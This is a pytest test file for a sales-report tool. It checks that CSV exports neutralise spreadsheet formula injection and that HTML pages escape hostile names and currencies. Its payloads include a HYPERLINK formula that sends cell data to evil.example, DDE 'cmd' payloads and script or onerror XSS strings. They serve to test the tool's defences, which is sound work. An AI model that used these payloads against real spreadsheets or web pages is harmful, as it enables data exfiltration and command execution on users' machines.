"""Hostile names and configuration: every CSV the workbench writes is safe to open in a
spreadsheet and reads back as written, every page shows names as text, and a currency that is
not one is refused with one line."""

from __future__ import annotations

import csv
import html
import io
import math
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import nbformat
import numpy as np
import pandas as pd
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from target_miss_examples import CAL, COVER, HAND_SALES, HAND_TARGETS

from analysis.cli import main
from analysis.core import csv_out
from analysis.core.errors import ConfigError
from analysis.data import sample
from analysis.data.config import config_from_dict
from analysis.forecasting import ledger
from analysis.reports import present
from analysis.reports.forecast import Outlook
from analysis.reports.target_miss import analyse
from analysis.run import landing, pages
from analysis.run.export import to_html

ROOT = Path(__file__).resolve().parents[1]
#: One hostile name per character that makes a spreadsheet evaluate a cell.
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
PREFIXES = list(HOSTILE)
#: Any character a decoded file can hold (no lone surrogates), but NUL.
_NAME_CHARACTERS = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def cells(path: Path) -> list[list[str]]:
    """Every row of a CSV file as a spreadsheet sees it: header first, cells as text."""
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_safe(path: Path) -> None:
    """No cell a spreadsheet would evaluate: text that begins with = + - @ tab or CR and is not
    a number."""
    evaluated = [
        cell
        for row in cells(path)
        for cell in row
        if cell.startswith(csv_out.FORMULA_STARTS) and not is_number(cell)
    ]
    assert not evaluated, (path.name, evaluated[:5])


# --- the writer's and the reader's rule ----------------------------------------------------------


@given(st.text())
def test_every_text_is_written_safe_and_read_back_as_it_was(text):
    written = csv_out.neutralise(text)
    assert not written.startswith(csv_out.FORMULA_STARTS)
    assert csv_out.restore(written) == text
    # only text a spreadsheet would evaluate (after apostrophes) is changed
    assert (written == text) == (not re.match(r"'*[=+\-@\t\r]", text))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(_NAME_CHARACTERS, min_size=1), min_size=1))
def test_any_names_stay_in_their_cells_and_read_back(names):
    """Line breaks inside a name stay inside its cell (a carriage return too), so no row starts
    in the middle of a name and no formula hides behind one."""
    frame = pd.DataFrame({"name": names, "n": range(len(names))})
    buffer = io.StringIO()
    csv_out.write_csv(frame, buffer)
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert len(rows) == len(names) + 1 and all(len(row) == 2 for row in rows)
    assert not [cell for row in rows for cell in row if cell.startswith(csv_out.FORMULA_STARTS)]
    back = csv_out.read_csv(io.StringIO(buffer.getvalue(), newline=""), dtype={"name": str})
    assert back["name"].tolist() == names and back["n"].tolist() == list(range(len(names)))


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.floats(allow_nan=True, allow_infinity=True),
            st.integers(min_value=-(2**63), max_value=2**63 - 1),
            st.integers(min_value=-(10**13), max_value=10**13),
            st.sampled_from([*HOSTILE.values(), "'quoted", "plain", ""]),
        ),
        min_size=1,
        max_size=30,
    )
)
def test_numbers_stay_numbers_and_read_back_unchanged(rows):
    frame = pd.DataFrame(rows, columns=["value", "count", "cents", "name"])
    frame["amount"] = frame["cents"] / 100  # money as the reports write it
    frame["negative"] = -5.0
    buffer = io.StringIO()
    csv_out.write_csv(frame, buffer)
    text = buffer.getvalue()
    raw = list(csv.reader(io.StringIO(text)))
    header, body = raw[0], raw[1:]
    numbers = [header.index(c) for c in ("value", "count", "cents", "amount", "negative")]
    for row, (value, *_rest) in zip(body, rows, strict=True):
        assert all(not row[i].startswith("'") for i in numbers)  # numbers are never quoted
        assert row[header.index("negative")] == "-5.0"
        assert (row[header.index("value")] == "") == math.isnan(value)  # NaN is an empty cell
    # pandas reads every number back as written: bit for bit with its round-trip parser, and
    # integers and amounts in cents with its default one
    exact = pd.read_csv(io.StringIO(text), float_precision="round_trip")
    np.testing.assert_array_equal(exact["value"].to_numpy(), frame["value"].to_numpy())
    default = pd.read_csv(io.StringIO(text))
    for column in ("count", "cents", "amount", "negative"):
        assert default[column].tolist() == frame[column].tolist(), column
    back = csv_out.read_csv(io.StringIO(text))
    np.testing.assert_array_equal(back["value"].to_numpy(), frame["value"].to_numpy())
    assert back["name"].fillna("").tolist() == frame["name"].tolist()


# --- target_miss.csv, forecast.csv, the ledger: each prefix --------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES, ids=IDS)
def test_target_miss_csv_neutralises_hostile_names(tmp_path, prefix):
    name = HOSTILE[prefix]
    sales = HAND_SALES.replace({"channel": {"A": name}, "region": {"East": f"{prefix}East"}})
    targets = HAND_TARGETS.replace({"channel": {"A": name}})
    miss = analyse(sales, targets, "2025Q4", calendar=CAL, coverage=COVER)
    path = miss.write(tmp_path)
    assert_safe(path)
    raw = pd.read_csv(path, keep_default_na=False)
    assert f"'{name}" in set(raw["channel"]) and f"'{prefix}East" in set(raw["segment"])
    back = csv_out.read_csv(path)
    pd.testing.assert_frame_equal(back.fillna({"dimension": "", "segment": ""}), miss.long)


def _outlook(uid: str) -> Outlook:
    """An outlook of two channels (one of them ``uid``) and the total, for one quarter."""
    rows = [
        ("Total", "total", 10.0),
        (uid, "channel", -4.5),
        ("B", "channel", 14.5),
        (f"{uid}/{uid}", "channel/region", -4.5),
    ]
    forecasts = pd.DataFrame(
        {
            "unique_id": [r[0] for r in rows],
            "level": [r[1] for r in rows],
            "quarter": "2026Q1",
            "horizon": 1,
            "mean": [r[2] for r in rows],
            "model": "test",
        }
    )
    forecasts["lo-80"] = forecasts["mean"] - 1.25
    forecasts["hi-80"] = forecasts["mean"] + 1.25
    review = SimpleNamespace(label="2025Q4")
    return Outlook(review, None, forecasts, "mint_shrink", (80,), None)


@pytest.mark.parametrize("prefix", PREFIXES, ids=IDS)
def test_forecast_csv_neutralises_hostile_names(tmp_path, prefix):
    outlook = _outlook(HOSTILE[prefix])
    path = outlook.write(tmp_path)
    assert_safe(path)
    raw = cells(path)
    assert ["2026Q1", "1", "channel", "'" + HOSTILE[prefix], "-4.5", "-5.75", "-3.25", "test"] in [
        row[:8] for row in raw
    ]
    pd.testing.assert_frame_equal(csv_out.read_csv(path), outlook.csv())


@pytest.mark.parametrize("prefix", PREFIXES, ids=IDS)
def test_ledger_neutralises_hostile_names_and_still_scores_them(tmp_path, prefix):
    name = HOSTILE[prefix]
    book = tmp_path / ledger.LEDGER
    rows = _outlook(name).csv().drop(columns=["method", "origin"])
    ledger.record(book, "2025Q4", rows, "2026-01-02T06:00")
    assert_safe(book)
    assert "'" + name in {row[1] for row in cells(book)}
    read = ledger.read(book)
    assert set(read["unique_id"]) == set(rows["unique_id"])
    actuals = pd.DataFrame({"unique_id": rows["unique_id"], "quarter": "2026Q1", "y": 1.0})
    scored = ledger.accuracy(read, actuals, through="2026Q1")
    assert sorted(scored["unique_id"]) == sorted(rows["unique_id"])  # every series matched


def test_ledger_round_trip_keeps_every_name_over_many_rewrites(tmp_path):
    """Names that start with an apostrophe (before a formula character or not), names pandas
    would read as missing, text that looks like a number: each read back as recorded, however
    often the ledger is rewritten, with one apostrophe in the file where one is needed."""
    names = [*HOSTILE.values(), "'quoted", "'=evil", "''+x", "NA", "N/A", "null", "-5", "Plain"]
    book = tmp_path / ledger.LEDGER
    rows = pd.DataFrame(
        {
            "unique_id": names,
            "level": "channel",
            "quarter": "2025Q2",
            "horizon": 1,
            "mean": np.linspace(-3.3, 1e7 / 3, len(names)),
            "model": "=model",
        }
    )
    for origin in ("2025Q1", "2024Q4", "2025Q1"):
        ledger.record(book, origin, rows, "2025-04-02T06:00")
    filed = tmp_path / "run" / ledger.LEDGER
    ledger.record(filed, "2024Q3", rows, "2025-04-02T06:00")
    merged = ledger.merge(book, filed)
    assert_safe(book)
    read = ledger.read(book)
    pd.testing.assert_frame_equal(read, merged, check_dtype=False)
    for origin in ("2024Q3", "2024Q4", "2025Q1"):
        mine = read.loc[read["origin"] == origin].set_index("unique_id").loc[names]
        assert mine["mean"].tolist() == rows["mean"].tolist()  # to the last bit
        assert (mine["model"] == "=model").all()
    in_file = {row[1] for row in cells(book)[1:]}
    assert {"'" + HOSTILE["="], "''=evil", "'quoted", "'''+x", "NA", "null", "'-5"} <= in_file
    actuals = pd.DataFrame({"unique_id": names, "quarter": "2025Q2", "y": 2.0})
    scored = ledger.accuracy(read, actuals, through="2025Q2")
    assert len(scored) == 3 * len(names)


# --- the sample's files --------------------------------------------------------------------------


def test_sample_files_are_safe_as_they_are_and_refuse_formula_names(tmp_path, monkeypatch):
    for name in ("sales_lines.csv", "targets.csv"):
        assert_safe(ROOT / "data" / "sample" / name)
    sales = pd.read_csv(ROOT / "data" / "sample" / "sales_lines.csv", nrows=50)
    targets = pd.read_csv(ROOT / "data" / "sample" / "targets.csv")
    sales.loc[3, "customer"] = "@SUM(1+1)"

    def hostile(*args, **kwargs):
        return sample.SampleData(sales=sales, targets=targets)

    monkeypatch.setattr(sample, "generate", hostile)
    with pytest.raises(ValueError, match=r"customer '@SUM\(1\+1\)' would be a spreadsheet formula"):
        sample.write_sample(tmp_path)
    assert not list(tmp_path.iterdir())


# --- HTML ----------------------------------------------------------------------------------------


class Tags(HTMLParser):
    """Every element of a page: its tag, its attributes and the text of its scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def assert_no_live_markup(page: str) -> None:
    """No script that alerts, no event handler, no image but the charts' own."""
    tags = Tags()
    tags.feed(page)
    handlers = [(t, a) for t, a in tags.elements for name in a if name.startswith("on")]
    assert not handlers
    assert not any("alert" in s for s in tags.scripts)
    images = [a.get("src") or "" for t, a in tags.elements if t == "img"]
    assert all(src.startswith("data:image/png;base64,") for src in images), images
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "onerror=" not in page.replace("&lt;img src=x onerror=", "")  # only escaped ones


def test_tables_escape_names_labels_captions_and_money():
    frame = pd.DataFrame({"channel": ["<script>alert(1)</script>"], "<b>gap": [-1234.0]})
    page = present.table(
        frame,
        "<img src=x onerror=alert(9)>",
        money_columns=["<b>gap"],
        signed_columns=["<b>gap"],
        caption="<i>caption",
    ).to_html()
    assert_no_live_markup(page)
    assert "-&lt;img src=x onerror=alert(9)&gt; 1,234" in page
    assert "&lt;b&gt;gap" in page and "&lt;i&gt;caption" in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_chart_text_alternative_and_pages_are_escaped():
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("charts.show(fig)")
    cell.outputs = [
        nbformat.v4.new_output(
            "display_data",
            data={"image/png": "iVBORw0KGgo="},
            metadata={"image/png": {"alt": '"><img src=x onerror=alert(1)>'}},
        )
    ]
    nb.cells = [cell]
    company = "<script>alert(1)</script>"
    reports = [("overview", "<b>Overview"), ("forecast", "Forecast")]
    page = to_html(
        nb, f"{company} 2025Q4", nav_html=pages.nav(reports, "forecast"), footer_html="x"
    )
    assert_no_live_markup(page)
    tags = Tags()
    tags.feed(page)
    assert [a["alt"] for t, a in tags.elements if t == "img"] == ['"><img src=x onerror=alert(1)>']
    assert "<title>&lt;script&gt;alert(1)&lt;/script&gt; 2025Q4</title>" in page
    assert "&lt;b&gt;Overview" in page
    hostile = "<img src=x onerror=alert(2)>"
    figures = {
        "quarter": "2025Q4", "currency": "CNY", "revenue": 10.0, "revenue_prior": None,
        "change": None, "attainment": 0.5, "target": 20.0, "targeted_revenue": 10.0,
        "untargeted_revenue": 0.0, "partial": False, "next_quarter": None, "trend": [],
        "biggest_miss": {"channel": hostile, "target": 20.0, "actual": 10.0, "gap": -10.0,
                         "attainment": 0.5, "cause": "price", "cause_amount": -10.0,
                         "segment": hostile, "segment_gap": -5.0},
    }  # fmt: skip
    index = landing.quarter_page(company, reports, figures, [f"{hostile}: 3 rows set aside"])
    assert_no_live_markup(index)
    assert "<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1>" in index
    assert html.escape(hostile) in index


# --- the currency --------------------------------------------------------------------------------


@pytest.mark.parametrize("currency", ["CNY", "USD", "¥", "US$", "元", "kr"])
def test_currency_codes_and_short_signs_are_accepted(currency):
    assert (
        config_from_dict({"sales": "s.csv", "currency": currency}, Path(".")).currency == currency
    )


@pytest.mark.parametrize(
    ("currency", "shown"),
    [
        ("<img src=x onerror=alert(9)>", "'<img src=x onerror=alert… (28 characters)"),
        ("ABCD", "'ABCD'"),
        ("&", "'&'"),
        ("a'b", '"a\'b"'),
        ("¥\n", "'¥\\n'"),
        ("\u202e$", "'\\u202e$'"),
        ("", "''"),
        ("  ", "'  '"),
    ],
)
def test_other_currencies_are_refused_naming_key_value_and_rule(currency, shown):
    with pytest.raises(ConfigError) as caught:
        config_from_dict({"sales": "s.csv", "currency": currency}, Path("."))
    message = str(caught.value)
    assert message.startswith(f"currency: {shown} is not allowed; expected an ISO 4217 code")
    assert "at most 3 characters" in message and "\n" not in message


# --- a whole run on a hostile sample -------------------------------------------------------------

COMPANY = "<script>alert(1)</script>"
RENAMED = {
    "channel": {
        "Distributor": HOSTILE["="],
        "OEM": "@SUM(1+1)<script>alert(2)</script>",
    },
    "region": {"East China": HOSTILE["+"], "South China": "<img src=x onerror=alert(3)>"},
    "product_line": {"Ball valves": "<img src=x onerror=alert(1)>", "Other valves": "-1+2"},
    "customer": {"Zhengzhou Boiler Co.": "<b onmouseover=alert(4)>Zhengzhou</b>"},
}


@pytest.fixture(scope="module")
def hostile_sample(tmp_path_factory) -> Path:
    data = tmp_path_factory.mktemp("hostile") / "data"
    shutil.copytree(ROOT / "data" / "sample", data)
    for name, columns in (
        ("sales_lines.csv", RENAMED),
        ("targets.csv", {"channel": RENAMED["channel"], "region": RENAMED["region"]}),
    ):
        frame = pd.read_csv(data / name, dtype=str, keep_default_na=False)
        frame = frame.replace(columns)
        frame.to_csv(data / name, index=False)
    config = yaml.safe_load((data / "config.yaml").read_text(encoding="utf-8"))
    config["company"] = COMPANY
    (data / "config.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    return data


@pytest.fixture(scope="module")
def hostile_run(hostile_sample, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("reports")
    config = str(hostile_sample / "config.yaml")
    assert main(["run", "--quarter", "2025Q4", "--config", config, "--out", str(out)]) == 0
    return out


def test_a_run_on_hostile_names_publishes_them_as_text(hostile_run):
    published = sorted(hostile_run.rglob("*.html"))
    assert {p.name for p in published} >= {"index.html", "overview.html", "forecast.html"}
    shown = ""
    for path in published:
        page = path.read_text(encoding="utf-8")
        assert_no_live_markup(page)
        shown += page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; 2025Q4" in shown  # the company, escaped
    assert "&lt;img src=x onerror=alert(1)&gt;" in shown  # a product line
    assert "&lt;img src=x onerror=alert(3)&gt;" in shown  # a region
    assert "@SUM(1+1)&lt;script&gt;alert(2)&lt;/script&gt;" in shown  # a channel
    assert html.escape(HOSTILE["="], quote=False) in shown
    customers = (hostile_run / "2025Q4" / "customers.html").read_text(encoding="utf-8")
    assert "&lt;b onmouseover=alert(4)&gt;Zhengzhou&lt;/b&gt;" in customers  # a customer won


def test_a_run_on_hostile_names_writes_csv_safe_to_open(hostile_run):
    files = sorted(hostile_run.rglob("*.csv"))
    names = {
        "target_miss.csv", "forecast.csv", "customers.csv", "returns.csv",
        "salesperson_targets.csv", ledger.LEDGER,
    }  # fmt: skip
    assert {p.name for p in files} == names
    for path in files:
        assert_safe(path)
    forecast = csv_out.read_csv(hostile_run / "2025Q4" / "forecast.csv")
    channels = set(forecast.loc[forecast["level"] == "channel", "unique_id"])
    assert {HOSTILE["="], "@SUM(1+1)<script>alert(2)</script>"} <= channels
    book = ledger.read(hostile_run / ledger.LEDGER)
    assert set(book["unique_id"]) == set(forecast["unique_id"])
    miss = csv_out.read_csv(hostile_run / "2025Q4" / "target_miss.csv", keep_default_na=False)
    assert {HOSTILE["+"], "-1+2"} <= set(miss["segment"])
    assert HOSTILE["="] in set(miss["channel"])
    bridge = csv_out.read_csv(hostile_run / "2025Q4" / "customers.csv")
    assert {HOSTILE["="], "@SUM(1+1)<script>alert(2)</script>", "Total"} <= set(bridge["channel"])
    returned = csv_out.read_csv(hostile_run / "2025Q4" / "returns.csv", keep_default_na=False)
    assert HOSTILE["="] in set(returned["channel"])


def test_a_hostile_currency_is_refused_with_one_line(hostile_sample, tmp_path, capsys):
    config = yaml.safe_load((hostile_sample / "config.yaml").read_text(encoding="utf-8"))
    config["currency"] = "<img src=x onerror=alert(9)>"
    for key in ("sales", "targets"):
        config[key]["path"] = str(hostile_sample / config[key]["path"])
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump(config), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["run", "--quarter", "2025Q4", "--config", str(path), "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("sales-report: error: ")
    assert "currency: '<img src=x onerror=alert… (28 characters) is not allowed" in err
    assert not (out / "2025Q4").exists()
